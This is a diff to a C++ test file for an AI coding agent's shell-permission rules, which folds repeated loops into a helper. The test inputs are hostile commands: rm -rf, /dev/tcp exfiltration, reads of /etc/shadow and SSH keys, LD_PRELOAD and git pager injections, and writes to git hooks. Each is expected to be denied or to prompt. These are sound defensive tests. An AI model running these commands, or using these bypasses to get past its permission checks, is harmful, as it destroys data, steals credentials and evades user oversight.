@@ -97,12 +97,9 @@ TEST_CASE("A.C8 workspace containment resolves .. and symlinks: /w/proj/../etc/p
 
 TEST_CASE("A.C9 the read-only set is not first-word only and holds no writers or executors", "[permissions][rules][bypass][A]") {
     const rules_env e("{}", "read-only");
-    for (const char* c : {"cat a; rm -rf ~", "env rm -rf /tmp/x", "xargs rm -rf", "find . -delete", "git push --force",
-                          "sed -i.bak s/a/b/ f", "echo hi>out.txt", "tee out", "python3 -c 1", "node -e 1", "gh pr merge",
-                          "cargo build", "sort -o out in", "git -c core.pager=sh log", "find . -exec rm {} ;"}) {
-        INFO(c);
-        CHECK(e("Bash", c) == deny);
-    }
+    all_decided(e, {"cat a; rm -rf ~", "env rm -rf /tmp/x", "xargs rm -rf", "find . -delete", "git push --force",
+                    "sed -i.bak s/a/b/ f", "echo hi>out.txt", "tee out", "python3 -c 1", "node -e 1", "gh pr merge",
+                    "cargo build", "sort -o out in", "git -c core.pager=sh log", "find . -exec rm {} ;"}, deny);
     CHECK(e("Bash", "grep -i foo f") == allow);  // the false positive of C9, fixed
 }
 
@@ -115,11 +112,8 @@ TEST_CASE("A.C10 classification is not first-word only", "[permissions][rules][b
 TEST_CASE("A.C11 the dead validator's bypasses: FOO= rm, ls; rm, sed -ni/-Ei, tee, git branch -D, git config pager",
           "[permissions][rules][bypass][A]") {
     const rules_env e("{}", "read-only");
-    for (const char* c : {"FOO= rm -rf x", "ls; rm -rf x", "sed -ni p f", "sed -Ei s/a/b/ f", "cat x | tee out", "git branch -D main",
-                          "git config core.pager 'sh -c id'"}) {
-        INFO(c);
-        CHECK(e("Bash", c) == deny);
-    }
+    all_decided(e, {"FOO= rm -rf x", "ls; rm -rf x", "sed -ni p f", "sed -Ei s/a/b/ f", "cat x | tee out", "git branch -D main",
+                    "git config core.pager 'sh -c id'"}, deny);
     // ... and its false positives allowed.
     CHECK(e("Bash", "git -C /w/proj status") == allow);
     CHECK(e("Bash", "ls 2>/dev/null") == allow);
@@ -221,10 +215,7 @@ TEST_CASE("B.1 hidden command parts: [[ ]], fd redirects and escaped flags hide 
 
 TEST_CASE("B.1 compound commands do not bypass ask rules in danger-full-access", "[permissions][rules][bypass][B1]") {
     const rules_env e(R"J({"ask":["Bash(git push *)"]})J", "danger-full-access");
-    for (const char* c : {"ls && git push", "ls; git push origin", "(git push)", "echo $(git push)", "sudo git push"}) {
-        INFO(c);
-        CHECK(e("Bash", c) == ask);
-    }
+    all_decided(e, {"ls && git push", "ls; git push origin", "(git push)", "echo $(git push)", "sudo git push"}, ask);
 }
 
 TEST_CASE("B.1 deny is not downgraded to a prompt for piped commands mixing cd", "[permissions][rules][bypass][B1]") {
@@ -249,12 +240,9 @@ TEST_CASE("B.1 env-var prefixes: deny matches past assignments; allow only past 
     const rules_env a(R"J({"allow":["Bash(gh pr list)","Bash(npm test)"]})J", "default");
     CHECK(a("Bash", "NODE_ENV=test npm test") == allow);
     CHECK(a("Bash", "LANG=C LC_ALL=C npm test") == allow);
-    for (const char* c : {"GH_TOKEN=x gh pr list", "PATH=/tmp/evil npm test", "LD_PRELOAD=/tmp/x.so npm test", "BASH_ENV=/tmp/x npm test",
-                          "NODE_OPTIONS=--require=/tmp/x.js npm test", "GIT_SSH_COMMAND=id npm test", "PAGER=sh npm test",
-                          "PATH=/tmp/evil; npm test", "PATH=/tmp/evil; ls", "LD_PRELOAD=/tmp/x.so ls", "IFS=x; ls"}) {
-        INFO(c);
-        CHECK(a("Bash", c) == ask);
-    }
+    all_decided(a, {"GH_TOKEN=x gh pr list", "PATH=/tmp/evil npm test", "LD_PRELOAD=/tmp/x.so npm test", "BASH_ENV=/tmp/x npm test",
+                    "NODE_OPTIONS=--require=/tmp/x.js npm test", "GIT_SSH_COMMAND=id npm test", "PAGER=sh npm test",
+                    "PATH=/tmp/evil; npm test", "PATH=/tmp/evil; ls", "LD_PRELOAD=/tmp/x.so ls", "IFS=x; ls"}, ask);
 }
 
 TEST_CASE("B.1 wrappers do not evade deny: sudo, env, watch, ionice, setsid, nice, timeout, ... and environment runners",
@@ -281,32 +269,23 @@ TEST_CASE("B.1 allow matching: non-transparent wrappers need coverage of their o
 
 TEST_CASE("B.1 find -exec/-delete is not covered by Bash(find *)", "[permissions][rules][bypass][B1]") {
     const rules_env e(R"J({"allow":["Bash(find *)"]})J");
-    for (const char* c : {"find . -exec rm {} +", "find . -execdir rm {} ;", "find . -ok rm {} ;", "find . -okdir rm {} ;",
-                          "find . -delete", "find . -fprint /tmp/x", "find . -fprintf /tmp/x %p", "find . -fls /tmp/x",
-                          "find . -fprint0 /tmp/x"}) {
-        INFO(c);
-        CHECK(e("Bash", c) == ask);
-    }
+    all_decided(e, {"find . -exec rm {} +", "find . -execdir rm {} ;", "find . -ok rm {} ;", "find . -okdir rm {} ;",
+                    "find . -delete", "find . -fprint /tmp/x", "find . -fprintf /tmp/x %p", "find . -fls /tmp/x",
+                    "find . -fprint0 /tmp/x"}, ask);
     CHECK(e("Bash", "find . -name '*.c'") == allow);
 }
 
 TEST_CASE("B.1 redirects to /dev/tcp and /dev/udp are network facts", "[permissions][rules][bypass][B1]") {
     const rules_env e(R"J({"allow":["Bash(echo *)","Bash(cat *)"]})J", "workspace-write");
-    for (const char* c : {"echo hi > /dev/tcp/203.0.113.5/80", "echo hi > /dev/udp/203.0.113.5/53", "cat < /dev/tcp/h/80",
-                          "exec 3<>/dev/tcp/h/80", "echo x >& /dev/tcp/h/1"}) {
-        INFO(c);
-        CHECK(e("Bash", c) == ask);
-    }
+    all_decided(e, {"echo hi > /dev/tcp/203.0.113.5/80", "echo hi > /dev/udp/203.0.113.5/53", "cat < /dev/tcp/h/80",
+                    "exec 3<>/dev/tcp/h/80", "echo x >& /dev/tcp/h/1"}, ask);
 }
 
 TEST_CASE("B.1 sed validation: Bash(sed *) does not cover -i, -ni, -Ei, -i.bak, --in-place, e and w commands", "[permissions][rules][bypass][B1]") {
     const rules_env e(R"J({"allow":["Bash(sed *)"]})J");
-    for (const char* c : {"sed -i s/a/b/ f", "sed -ni p f", "sed -Ei s/a/b/ f", "sed -i.bak s/a/b/ f", "sed --in-place s/a/b/ f",
-                          "sed --in-place=.bak s/a/b/ f", "sed 'e rm -rf x' f", "sed 's/a/b/e' f", "sed 'w /tmp/x' f",
-                          "sed 's/a/b/w /tmp/x' f", "sed -e 'w /tmp/x' f"}) {
-        INFO(c);
-        CHECK(e("Bash", c) == ask);
-    }
+    all_decided(e, {"sed -i s/a/b/ f", "sed -ni p f", "sed -Ei s/a/b/ f", "sed -i.bak s/a/b/ f", "sed --in-place s/a/b/ f",
+                    "sed --in-place=.bak s/a/b/ f", "sed 'e rm -rf x' f", "sed 's/a/b/e' f", "sed 'w /tmp/x' f",
+                    "sed 's/a/b/w /tmp/x' f", "sed -e 'w /tmp/x' f"}, ask);
     CHECK(e("Bash", "sed -n 1,5p f") == allow);
 }
 
@@ -389,11 +368,8 @@ TEST_CASE("B.2 a Bash reader of a file outside the workspace asks like Read does
     // `cat` is a built-in read-only command, but reading /etc/shadow is a read fact outside the
     // roots: its baseline is ask in every mode but danger-full-access (strictest across facts).
     const rules_env e("{}", "default");
-    for (const char* c : {"cat /etc/shadow", "head ~/.ssh/id_rsa", "grep -r password /etc", "wc -c /home/u/.netrc", "ls /root",
-                          "cat ../../../../../../../../etc/shadow"}) {
-        INFO(c);
-        CHECK(e("Bash", c) == ask);
-    }
+    all_decided(e, {"cat /etc/shadow", "head ~/.ssh/id_rsa", "grep -r password /etc", "wc -c /home/u/.netrc", "ls /root",
+                    "cat ../../../../../../../../etc/shadow"}, ask);
     CHECK(e("Bash", "cat README.md") == allow);
 }
 
@@ -401,11 +377,8 @@ TEST_CASE("B.2 writes by Bash file commands reach the protected-path floor even 
     // S7.3: an allow rule covers its command's own path facts "except where S8 deny/ask rules or
     // floors apply"; S10.2: writes to protected paths ask.
     const rules_env e(R"J({"allow":["Bash(cp *)","Bash(tee *)","Bash(mv *)","Bash(touch *)","Bash(ln *)"]})J", "workspace-write");
-    for (const char* c : {"cp evil .git/hooks/pre-commit", "cp a ~/.bashrc", "echo x | tee -a ~/.zshrc", "mv a .claw/settings.json",
-                          "touch .envrc", "ln -sf /tmp/evil .git/hooks/post-checkout", "cp a .vscode/tasks.json"}) {
-        INFO(c);
-        CHECK(e("Bash", c) == ask);
-    }
+    all_decided(e, {"cp evil .git/hooks/pre-commit", "cp a ~/.bashrc", "echo x | tee -a ~/.zshrc", "mv a .claw/settings.json",
+                    "touch .envrc", "ln -sf /tmp/evil .git/hooks/post-checkout", "cp a .vscode/tasks.json"}, ask);
 }
 
 TEST_CASE("B.2 Grep and Glob over a folder whose contents are denied are denied", "[permissions][rules][bypass][B2]") {
@@ -523,11 +496,8 @@ TEST_CASE("B.3 settings files cannot be written silently from inside the workspa
 
 TEST_CASE("B.3 git -c and --config-env are dangerous operands a wildcard never absorbs", "[permissions][rules][bypass][B3]") {
     const rules_env e(R"J({"allow":["Bash(git *)"]})J", "default");
-    for (const char* c : {"git -c core.sshCommand='sh -c id' fetch", "git -c core.pager=sh log", "git --config-env=core.pager=X log",
-                          "git --exec-path=/tmp status"}) {
-        INFO(c);
-        CHECK(e("Bash", c) == ask);
-    }
+    all_decided(e, {"git -c core.sshCommand='sh -c id' fetch", "git -c core.pager=sh log", "git --config-env=core.pager=X log",
+                    "git --exec-path=/tmp status"}, ask);
 }
 
 TEST_CASE("B.3 an agent or project setting cannot switch danger mode on against disableDangerMode", "[permissions][rules][bypass][B3]") {
